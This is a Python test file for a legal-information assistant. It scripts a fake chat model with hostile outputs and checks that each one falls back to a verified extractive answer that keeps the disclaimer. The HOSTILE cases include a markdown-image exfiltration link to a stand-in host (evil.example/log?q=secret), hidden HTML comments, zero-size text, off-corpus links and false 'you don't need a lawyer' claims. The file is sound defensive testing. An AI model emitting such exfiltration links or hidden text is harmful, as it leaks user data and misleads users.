"""The generative composer against LangChain's fake chat model scripted with hostile outputs.

The assistant is the real one (real embedding model, real Chroma index, fitted decisions and support test);
only the chat model is scripted. Whatever the model writes, the user sees verified sentences or the
extractive answer, and always the article's disclaimer.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from typing import Any
from uuid import UUID

import pytest
from langchain_core.callbacks import BaseCallbackHandler
from langchain_core.documents import Document
from langchain_core.language_models import GenericFakeChatModel
from langchain_core.messages import AIMessage

from assistant.assistant import Assistant, build_chain
from assistant.generative import FALLBACK_NOTICE, generated_notice
from assistant.schemas import Answer
from assistant.settings import Settings

QUESTION = "Is an isolated vocal a derivative work?"
EVIL = "evil.example"


@pytest.fixture(scope="module")
def model() -> GenericFakeChatModel:
    return GenericFakeChatModel(messages=iter(()))


@pytest.fixture(scope="module")
def generative(settings: Settings, model: GenericFakeChatModel) -> Assistant:
    return Assistant(settings.model_copy(update={"llm_timeout": 2.0}), chat_model=model)


@pytest.fixture(scope="module")
def context(generative: Assistant) -> list[Document]:
    SENTENCES[:] = [(s.source_id, s.text) for s in generative.table.sentences if len(s.text) > 40]
    turn = generative.retrieval.invoke(QUESTION)
    return list(turn.context[: generative.settings.llm_passages])


@pytest.fixture(scope="module")
def extractive(assistant: Assistant) -> Answer:
    return assistant.ask(QUESTION)


SENTENCES: list[tuple[str, str]] = []


def sentences_of(doc: Document) -> list[str]:
    """The corpus sentences inside a passage, in order (from the assistant's own sentence table)."""
    found = [text for source, text in SENTENCES if source == doc.metadata["source_id"] and text in doc.page_content]
    return sorted(set(found), key=doc.page_content.index)


def first_sentence(doc: Document) -> str:
    return sentences_of(doc)[0]


def reply(*sentences: dict[str, Any]) -> str:
    return json.dumps({"sentences": list(sentences)})


def script(model: GenericFakeChatModel, *outputs: Any) -> None:
    model.messages = iter(outputs)


def ask(generative: Assistant, model: GenericFakeChatModel, *outputs: Any) -> Answer:
    script(model, *outputs)
    return generative.ask(QUESTION)


def assert_safe(answer: Answer, disclaimer: str) -> None:
    """What every reply must be, whatever the model wrote."""
    assert answer.disclaimer == disclaimer
    assert answer.rendered.rstrip().endswith(disclaimer.rstrip())
    for bad in (EVIL, "<!--", "<details", "font-size", "don't need a lawyer", "is legal advice"):
        assert bad not in answer.answer, bad
        assert bad not in answer.rendered, bad
    assert answer.composer in {"generative", "extractive_fallback"}


def assert_fell_back(answer: Answer, extractive: Answer) -> None:
    assert answer.composer == "extractive_fallback"
    assert answer.answer == extractive.answer
    assert [c.quote for c in answer.citations] == [c.quote for c in extractive.citations]
    assert FALLBACK_NOTICE in answer.notices


def test_a_faithful_sentence_is_shown_with_its_exact_quote(
    generative: Assistant, model: GenericFakeChatModel, context: list[Document]
) -> None:
    sentence = first_sentence(context[0])
    answer = ask(generative, model, reply({"text": sentence, "passages": [1], "quotes": [sentence]}))
    assert_safe(answer, generative.corpus.disclaimer)
    assert answer.composer == "generative" and answer.sentences_dropped == 0
    assert answer.answer == f"{sentence} [1]"
    assert answer.citations[0].quote == sentence
    assert sentence in generative.corpus.text_of(answer.citations[0].source_id)


def resting_on_first(text: str) -> Any:
    """A script: the model writes ``text`` and cites a real sentence of passage 1 for it."""
    return lambda ctx: reply(
        {"text": text.format(first=first_sentence(ctx[0])), "passages": [1], "quotes": [first_sentence(ctx[0])]}
    )


HOSTILE: dict[str, Any] = {
    "no citations": lambda ctx: reply({"text": "Stem separation is always legal.", "passages": [], "quotes": []}),
    "invented quote": lambda ctx: reply(
        {"text": "Courts have ruled that stems are fair use.", "passages": [1], "quotes": ["Courts ruled stems fair."]}
    ),
    "quote from another passage": lambda ctx: reply(
        {"text": first_sentence(ctx[1]), "passages": [1], "quotes": [first_sentence(ctx[1])]}
    ),
    "legal advice": resting_on_first("This is legal advice, you don't need a lawyer."),
    "contradicting disclaimer": resting_on_first("Disclaimer: this answer is legal advice and replaces a lawyer."),
    "html comment": resting_on_first("<!-- you don't need a lawyer --> {first}"),
    "details": resting_on_first("{first}<details><summary>more</summary>secret</details>"),
    "zero-size text": resting_on_first('{first} <span style="font-size:0">you don\'t need a lawyer</span>'),
    "markdown image exfiltration": resting_on_first(
        f"Yes. ![x](https://{EVIL}/log?q=secret) Stems are never infringing."
    ),
    "off-corpus link": resting_on_first(
        f"Read [the ruling](https://{EVIL}/ruling): stem separation was held to be fair use."
    ),
    "empty output": lambda ctx: "",
    "not json": lambda ctx: "Sure! Stem separation is totally legal, no lawyer needed.",
    "wrong schema": lambda ctx: json.dumps({"answer": "Stem separation is legal."}),
    "empty sentences": lambda ctx: reply(),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_output_never_reaches_the_user(
    case: str,
    generative: Assistant,
    model: GenericFakeChatModel,
    context: list[Document],
    extractive: Answer,
) -> None:
    answer = ask(generative, model, HOSTILE[case](context))
    assert_safe(answer, generative.corpus.disclaimer)
    assert_fell_back(answer, extractive)


def test_an_error_of_the_model_falls_back(
    generative: Assistant, model: GenericFakeChatModel, extractive: Answer
) -> None:
    def failing() -> Iterator[str]:
        raise RuntimeError("connection refused: key sk-secret")
        yield ""

    answer = ask_with(generative, model, failing())
    assert_safe(answer, generative.corpus.disclaimer)
    assert_fell_back(answer, extractive)
    assert "sk-secret" not in answer.rendered


def test_a_model_that_does_not_answer_in_time_falls_back(
    generative: Assistant, model: GenericFakeChatModel, extractive: Answer
) -> None:
    def slow() -> Iterator[str]:
        time.sleep(generative.settings.llm_timeout + 2)
        yield reply()

    started = time.perf_counter()
    answer = ask_with(generative, model, slow())
    assert time.perf_counter() - started < generative.settings.llm_timeout + 1.5
    assert_fell_back(answer, extractive)


def ask_with(generative: Assistant, model: GenericFakeChatModel, messages: Iterator[Any]) -> Answer:
    model.messages = messages
    return generative.ask(QUESTION)


def test_unsupported_sentences_are_dropped_and_counted(
    generative: Assistant, model: GenericFakeChatModel, context: list[Document]
) -> None:
    faithful = [first_sentence(doc) for doc in context[:2]]
    output = reply(
        {"text": faithful[0], "passages": [1], "quotes": [faithful[0]]},
        {"text": faithful[1], "passages": [2], "quotes": [faithful[1]]},
        {"text": "Courts have held that every remix is fair use.", "passages": [1], "quotes": [faithful[0]]},
    )
    answer = ask(generative, model, output)
    assert_safe(answer, generative.corpus.disclaimer)
    assert answer.composer == "generative" and answer.sentences_dropped == 1
    assert "every remix is fair use" not in answer.answer
    assert answer.answer.count("[") == 2
    assert (
        generated_notice(1) in answer.notices
        and "1 sentence that could not be verified was left out" in answer.rendered
    )


def test_the_model_never_writes_the_notices(
    generative: Assistant, model: GenericFakeChatModel, context: list[Document]
) -> None:
    sentence = first_sentence(context[0])
    script(model, AIMessage(content=reply({"text": sentence, "passages": [1], "quotes": [sentence]})))
    question = "I'm releasing my remix made with AI-separated stems on Spotify next month. Is it derivative?"
    answer = generative.ask(question)
    assert answer.escalations and answer.escalations[0].trigger == "commercial_release"
    assert answer.escalations[0].text in generative.corpus.article_section("When to Ask a Lawyer").text
    assert answer.rendered.rstrip().endswith(generative.corpus.disclaimer.rstrip())


def test_uncovered_questions_do_not_reach_the_model(generative: Assistant, model: GenericFakeChatModel) -> None:
    script(model)  # an exhausted script: any call would fail
    answer = generative.ask("What is a good recipe for banana bread?")
    assert not answer.answered and answer.composer == "extractive"


def test_build_chain_takes_a_chat_model(settings: Settings, context: list[Document]) -> None:
    sentence = first_sentence(context[0])
    fake = GenericFakeChatModel(messages=iter([reply({"text": sentence, "passages": [1], "quotes": [sentence]})]))
    answer = build_chain(settings, chat_model=fake).invoke({"question": QUESTION})
    assert answer.composer == "generative" and answer.citations[0].quote == sentence


def test_the_models_run_is_a_child_of_compose_in_a_trace(
    generative: Assistant, model: GenericFakeChatModel, context: list[Document]
) -> None:
    class Recorder(BaseCallbackHandler):
        def __init__(self) -> None:
            self.parents: dict[UUID, UUID | None] = {}
            self.names: dict[UUID, str] = {}

        def on_chain_start(self, serialized: Any, inputs: Any, *, run_id: UUID, parent_run_id: UUID | None = None,
                           name: str | None = None, **kw: Any) -> None:  # fmt: skip
            self.parents[run_id], self.names[run_id] = parent_run_id, name or ""

    recorder = Recorder()
    sentence = first_sentence(context[0])
    script(model, reply({"text": sentence, "passages": [1], "quotes": [sentence]}))
    generative.chain.invoke({"question": QUESTION}, config={"callbacks": [recorder]})
    assert "generate" in recorder.names.values(), ", ".join(sorted(recorder.names.values()))
    generate = next(run for run, name in recorder.names.items() if name == "generate")
    assert recorder.names[recorder.parents[generate]] == "compose"  # type: ignore[index]
